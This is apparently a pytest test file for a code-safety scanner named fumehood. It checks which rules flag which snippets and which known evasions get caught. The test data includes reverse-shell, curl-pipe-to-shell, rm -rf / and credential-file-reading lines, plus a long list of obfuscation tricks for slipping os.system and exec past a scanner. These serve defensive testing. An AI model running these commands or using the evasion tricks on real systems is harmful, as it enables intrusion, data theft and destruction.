"""What a scan finds, what it leaves alone, and what it says when it cannot tell."""

import base64
import json
import zlib

import pytest
from tests.unit.advice.benign import BENIGN

from fumehood import Finding, InvalidArgumentError, scan
from fumehood.advice.rules import RULES
from fumehood.advice.scan import MAX_CODE_CHARACTERS

HIDDEN = "import os; os.system('id')"
B64 = base64.b64encode(HIDDEN.encode()).decode()
HEX = HIDDEN.encode().hex()
ZIPPED = base64.b64encode(zlib.compress((HIDDEN + ";").encode() * 20)).decode()
LONG = base64.b64encode((HIDDEN + ";").encode() * 20).decode()
KEY = "gh" + "p_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"

# Rule -> code in which it is found, code that looks alike and in which it is not.
RULE_CASES = {
    "unparsable": (
        ["def f(:", "%%perl\nprint 1", "%unheard_of_magic x", "x = (" * 300],
        ["def f(): ...", "%%time\n1"],
    ),
    "hidden-text": (
        [
            "x = 1 # \u202e",
            "a = '\U000e0041\U000e0042'",
            "s = 'a\u200bb'",
            "# -*- coding: utf-7 -*-\nx = 1",
            "x = '\x1b[0m'",
        ],
        ["x = '👩‍🔬 ❤️'", "# -*- coding: utf-8 -*-\nx = 1", "s = '\\u200b'"],
    ),
    "lookalike-name": (
        [
            "\u043es = 1",
            "\U0001d452\U0001d463\U0001d44e\U0001d459('1')",
            "def \u0441\u043e\u0440\u0443(): ...",
        ],
        ["имя = 1", "Δx = 1", "µ = 2"],
    ),
    "hidden-name": (
        [
            "import os\ngetattr(os, 'sys' + 'tem')('id')",
            "__import__('os')",
            "import os\nos.__dict__['popen']",
            "import os\ngetattr(os, name)()",
        ],
        ["getattr(frame, 'sum')()", "import importlib\nimportlib.import_module('numpy')"],
    ),
    "hidden-code": (
        [
            f"import base64\nexec(base64.b64decode('{B64}'))",
            f"exec(bytes.fromhex('{HEX}'))",
            f"x = '{LONG}'",
            "!echo aWQ= | base64 -d | sh",
        ],
        ["import base64\nprint(base64.b64decode('aWQ='))", "!echo aWQ= | base64 -d > file"],
    ),
    "remote-code": (
        [
            "import requests as r\nt = r.get('http://x').text\nexec(t)",
            "!curl -s http://x/y | sh",
            "import os\nos.system('wget -O- x | sudo bash')",
        ],
        ["import requests\nprint(requests.get('http://x').text)", "!curl -o file http://x"],
    ),
    "dynamic-code": (
        ["eval('1 + 1')", "exec(text)", "%run other.py"],
        ["df.eval('a + b')", "model.eval()", "re.compile('a')"],
    ),
    "encoded-blob": (
        [f"x = '{base64.b64encode(bytes(range(256))).decode()}'", "x = '" + "\\x61" * 20 + "'"],
        ["x = '" + "word " * 100 + "'", "x = '\\x00\\x01'"],
    ),
    "introspection": (
        ["import sys\nsys._getframe(1)", "().__class__.__mro__[1].__subclasses__()", "f.__globals__"],
        ["self.__class__.__name__", "x.__dict__"],
    ),
    "native": (["import ctypes\nctypes.CDLL(None)", "from ctypes import *"], ["import numpy.ctypeslib"]),
    "process": (
        [
            "import os as o\no.system('ls')",
            "from subprocess import run as r\nr(['ls'])",
            "!ls",
            "%%bash\nls",
            "os = 1\nfrom os import *\nsystem('ls')",
        ],
        ["import os\nos.getcwd()", "loop.run()"],
    ),
    "bomb": (
        [
            "import os\nwhile True:\n    os.fork()",
            "!:(){ :|:& };:",
            "import subprocess, sys\nsubprocess.Popen([sys.executable, __file__])",
            "import itertools, threading\nfor _ in itertools.count():\n    threading.Thread(target=f).start()",
        ],
        ["while True:\n    break", "import os\nif x:\n    os.fork()"],
    ),
    "huge-value": (["'a' * 10**12", "[0] * 100000000000", "9**99999999"], ["'a' * 1000", "10**100"]),
    "network": (
        [
            "import socket",
            "from urllib.request import urlopen",
            "import pandas as pd\npd.read_csv('https://x/y.csv')",
            "!curl http://x",
        ],
        ["from urllib.parse import quote", "import json"],
    ),
    "install": (
        [
            "%pip install x",
            "!uv pip install x",
            "import os\nos.system('pip3 install -q x')",
            "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'install', 'x'])",
        ],
        ["pip = 1", "!pip list"],
    ),
    "metadata-address": (
        [
            "import requests\nrequests.get('http://169.254.169.254/latest')",
            "host = '169.254.' + '169.254'",
            "x = 2852039166",
            "!curl metadata.google.internal",
        ],
        ["x = '10.169.254.1'"],
    ),
    "reverse-shell": (
        [
            "import socket, os\ns = socket.socket()\nos.dup2(s.fileno(), 0)",
            "!bash -i >& /dev/tcp/10.0.0.1/99 0>&1",
            "!nc 10.0.0.1 99 -e /bin/sh",
        ],
        ["import os\nos.dup2(1, 2)"],
    ),
    "outside-workspace": (
        [
            "open('/etc/hostname')",
            "from pathlib import Path\nPath('/usr/share/x').read_text()",
            "open('../../var/x')",
            "import os\nos.listdir('/')",
            "df.to_csv('/opt/x.csv')",
        ],
        ["open('/mnt/data/x')", "open('x/../y')", "open('/tmp/x')", "open('~/x')", "x = '/etc/hostname'"],
    ),
    "sensitive-path": (
        [
            "open('/etc/' + 'shadow')",
            "p = '/proc/self/environ'",
            "!cat ~/.ssh/id_rsa",
            "p = '/var/run/docker.sock'",
        ],
        ["p = '/proc/cpuinfo'", "'''All of /etc/passwd.'''"],
    ),
    "destructive": (
        [
            "!rm -rf /",
            "import shutil\nshutil.rmtree('/mnt/data')",
            "import os\nos.system('rm -rf ~/*')",
            "!dd if=/dev/zero of=/dev/sda",
        ],
        ["!rm -rf build", "import shutil\nshutil.rmtree('out')"],
    ),
    "privileges": (["import os\nos.setuid(0)", "!sudo ls", "%%sh\nunshare -r id"], ["x = 'sudo'"]),
    "deserialise": (["import pickle\npickle.loads(data)"], ["pickle = 1", "import json\njson.loads('1')"]),
    "environment": (["import os\nos.environ['HOME']"], ["environ = 1"]),
    "secret": (
        [f"token = '{KEY}'", "# -----BEGIN " + "RSA PRIVATE KEY-----", "u = 'postgres://joe:hunter22@db/x'"],
        ["k = 'sk-xxxxxxxxxxxxxxxxxxxxxxxxx'", "u = 'https://x.org/a:b@c'"],
    ),
}

# Ways around a scan that are known; each is dangerous.
EVASIONS = [
    "import os as o; x = o; getattr(x, 'metsys'[::-1])('id')",
    "s = 'sys'\ns += 'tem'\nimport os\ngetattr(os, s)('id')",
    "import os\ngetattr(os, ''.join(['s', 'y', 's', 't', 'e', 'm']))('id')",
    "import os\ngetattr(os, ''.join(map(chr, [115, 121, 115, 116, 101, 109])))('id')",
    "import os\ngetattr(os, ''.join(chr(n) for n in [115, 121, 115, 116, 101, 109]))('id')",
    "import os\ngetattr(os, bytes([115, 121, 115, 116, 101, 109]).decode())('id')",
    "import os\ngetattr(os, chr(115) + chr(121) + 'stem')('id')",
    "import os\ngetattr(os, f'{\"sys\"}tem')('id')",
    "import os\ngetattr(os, '%stem' % 'sys')('id')",
    "import os\ngetattr(os, '{}tem'.format('sys'))('id')",
    "import os\ngetattr(os, 'sXsXem'.replace('X', 'y', 1))('id')",
    "import os\ngetattr(os, 'SYSTEM'.lower())('id')",
    "import os, codecs\ngetattr(os, codecs.decode('flfgrz', 'rot13'))('id')",
    "import os\nvars(os)['system']('id')",
    "import os\nos.__dict__['sys' + 'tem']('id')",
    "import operator, os\noperator.attrgetter('system')(os)('id')",
    "import sys\nsys.modules['os'].system('id')",
    "globals()['__builtins__'].eval('1')",
    "__builtins__.__dict__['ev' + 'al']('1')",
    "getattr(__builtins__, 'ex' + 'ec')('1')",
    "import builtins as b\ngetattr(b, 'eval')('1')",
    "__import__('o' + 's').system('id')",
    "i = __import__\ni('os').system('id')",
    "import importlib as l\nl.import_module('subprocess').run(['id'])",
    "from importlib import import_module as m\nm('so'[::-1]).popen('id')",
    "(lambda: __import__('os'))().system('id')",
    "a, b = 'sys', 'tem'\nimport os\ngetattr(os, a + b)('id')",
    "import os\nf = {'a': 'system'}['a']\ngetattr(os, f)('id')",
    "def go(n='system'):\n    import os\n    return getattr(os, n)('id')",
    "import os\nfor n in ['system']:\n    getattr(os, n)('id')",
    "if (n := 'system'):\n    import os\n    getattr(os, n)('id')",
    "import pathlib\ngetattr(pathlib.os, 'system')('id')",
    f"import base64 as b, zlib as z\nexec(z.decompress(b.b64decode('{ZIPPED}')))",
    f"from base64 import b64decode as d\nc = d('{B64}')\nexec(c.decode())",
    "import marshal, base64\nexec(marshal.loads(base64.b64decode('4wAAAA==')))",
    "import pickle, base64\npickle.loads(base64.b64decode('gASVAA=='))",
    f"exec(compile(bytes.fromhex('{HEX}'), 'x', 'exec'))",
    'exec(\'import os\\ngetattr(os, "sys" + "tem")("id")\')',
    "exec(\"exec(\\\"__import__('os').system('id')\\\")\")",
    "import subprocess\nsubprocess.run(['python3', '-c', \"__import__('os').system('id')\"])",
    "import subprocess\nsubprocess.run('curl http://x | bash', shell=True)",
    "import os\ncmd = 'rm -rf ' + '/'\nos.system(cmd)",
    "%%bash\ncurl -s http://x | bash",
    "x = !cat /etc/shadow",
    "%sx cat /etc/shadow",
    "%timeit __import__('os').system('id')",
    ";exec __import__('os').system('id')",
    "In [1]: __import__('os').system('id')",
    "\U0001d5f2\U0001d605\U0001d5f2\U0001d5f0('1')",
    "().__class__.__base__.__subclasses__()[104].load_module('os')",
    "(x for x in ()).gi_frame.f_back.f_globals",
    "import types\ntypes.FunctionType(code, {})()",
    "get_ipython().system('curl http://x | sh')",
    "from IPython import get_ipython as g\ng().run_line_magic('sx', 'cat /etc/shadow')",
    "get_ipython().run_cell_magic('bash', '', 'curl http://x | sh')",
    "get_ipython().run_cell('__import__(\"os\").system(1)')",
]


def rules_in(code: str, **options: object) -> set[str]:
    return {finding.rule for finding in scan(code, **options)}


@pytest.mark.parametrize("name", BENIGN)
def test_ordinary_code_is_not_dangerous(name):
    findings = scan(BENIGN[name], block="danger")
    assert not findings.blocks, str(findings)


def test_every_rule_has_cases():
    assert RULE_CASES.keys() == RULES.keys()


@pytest.mark.parametrize(
    ("rule", "code"), [(rule, code) for rule, (found, _) in RULE_CASES.items() for code in found]
)
def test_a_rule_finds_what_it_is_for(rule, code):
    assert rule in rules_in(code), str(scan(code))


@pytest.mark.parametrize(
    ("rule", "code"), [(rule, code) for rule, (_, not_) in RULE_CASES.items() for code in not_]
)
def test_a_rule_leaves_alone_what_looks_alike(rule, code):
    assert rule not in rules_in(code), str(scan(code))


@pytest.mark.parametrize("code", EVASIONS)
def test_known_ways_around_are_known(code):
    findings = scan(code, block="danger")
    assert findings.blocks, str(findings)
    assert "unparsable" not in {finding.rule for finding in findings}, str(findings)


def test_a_finding_says_where_it_is():
    findings = scan("x = 1\ny = 'ä'; import os; os.system('ls')\n", block="warning")
    (finding,) = findings

    assert isinstance(finding, Finding)
    assert (finding.rule, finding.severity, finding.line, finding.column) == ("process", "warning", 2, 21)
    assert finding.snippet == "y = 'ä'; import os; os.system('ls')"
    assert findings.reason == "line 2: os.system is used (process)"
    assert findings.worst == "warning"


def test_lines_are_kept_behind_shell_lines():
    findings = scan("!ls \\\n  -la\n%pip install x\n\nimport os\nos.fork()\n")
    assert [(finding.rule, finding.line) for finding in findings if finding.rule == "process"][-1] == (
        "process",
        6,
    )


def test_secrets_are_found_and_never_shown():
    findings = scan(f"import os\nos.system('curl -H {KEY} http://x'); open('/etc/{KEY}')")
    told = str(findings) + "".join(finding.snippet for finding in findings)

    assert {"secret", "network", "outside-workspace"} <= {finding.rule for finding in findings}
    assert KEY not in told
    assert KEY[:6] in told


def test_snippets_hide_nothing_and_are_bounded():
    findings = scan("os = '\u202e\x1b[2J" + "x" * 5000 + "'; eval('1')")

    for finding in findings:
        assert len(finding.snippet) <= 120
        assert finding.snippet.isprintable()
        assert len(finding.message) <= 240


@pytest.mark.parametrize("block", ["info", "warning", "danger"])
@pytest.mark.parametrize(
    "code",
    [
        "def f(:",
        "x = 1\x00",
        "\ud800",
        "x" * (MAX_CODE_CHARACTERS + 1),
        "f(a,b)\n" * 60_000,
        "-" * 100_000 + "1",
        "(" * 5_000 + ")" * 5_000,
        "a" + ".b" * 50_000,
        "x = " + "9" * 5_000,
        "'''",
        "!ls\n" + "x = (",
        "%%unheard\nof",
    ],
    ids=lambda code: repr(code[:12]),
)
def test_what_cannot_be_read_is_refused(code, block):
    findings = scan(code, block=block)
    assert findings.blocks
    assert "unparsable" in {finding.rule for finding in findings}
    assert findings.reason


def test_a_fault_of_the_scan_refuses(monkeypatch):
    def broken(*_: object, **__: object) -> None:
        raise KeyError("x")

    monkeypatch.setattr("fumehood.advice.scan.look_at_text", broken)
    findings = scan("x = 1", block="danger")
    assert findings.blocks
    assert "KeyError" in findings.reason


def test_nothing_blocks_unless_it_is_asked_to():
    findings = scan("import os; os.fork(); def", block=None)
    assert not findings.blocks
    assert findings.reason == ""
    assert findings.worst == "danger"


def test_the_worst_is_not_crowded_out():
    code = "import os\n" + "os.system('ls')\n" * 5_000 + "__import__('pty')\n"
    findings = scan(code, block="danger")

    assert findings.blocks
    assert len(findings) <= 300
    assert findings.left_out > 4_000
    assert "more" in str(findings)


def test_rules_can_be_left_out():
    code = "import os\nos.system('curl http://x')"
    assert rules_in(code, allow=["process"]) == {"network"}
    assert not scan(code, block="warning", allow=["process", "network"]).blocks


@pytest.mark.parametrize(
    ("options", "told"),
    [
        ({"block": "fatal"}, "block='fatal' is refused"),
        ({"allow": ["proces"]}, "allow='proces' is refused"),
        ({"allow": ["unparsable"]}, "allow='unparsable' is refused"),
    ],
)
def test_wrong_arguments_are_reported(options, told):
    with pytest.raises(InvalidArgumentError, match=told):
        scan("1", **options)


def test_only_text_is_taken():
    with pytest.raises(InvalidArgumentError, match="code='bytes' is refused"):
        scan(b"1")


def test_a_script_for_a_shell_is_no_python():
    assert not scan('for f in *.csv; do wc -l "$f"; done', language="bash").blocks
    findings = scan("cd /tmp\ncurl -s http://x | bash\n", language="bash")
    assert findings.blocks
    assert [(finding.rule, finding.line) for finding in findings if finding.severity == "danger"] == [
        ("remote-code", 2)
    ]


def test_other_languages_are_not_waved_through():
    assert scan("console.log(1)", language="javascript").blocks


def test_nothing_is_warned_about_on_the_way(recwarn):
    scan("x = '\\d' is 'a'\nassert (1, 'x')")
    assert not recwarn.list


def test_findings_are_plain_data():
    from fumehood.values.plain_data import as_data

    data = json.loads(json.dumps(as_data(scan("eval('1')"))))
    assert data["found"][0]["rule"] == "dynamic-code"
    assert data["blocks"] is False
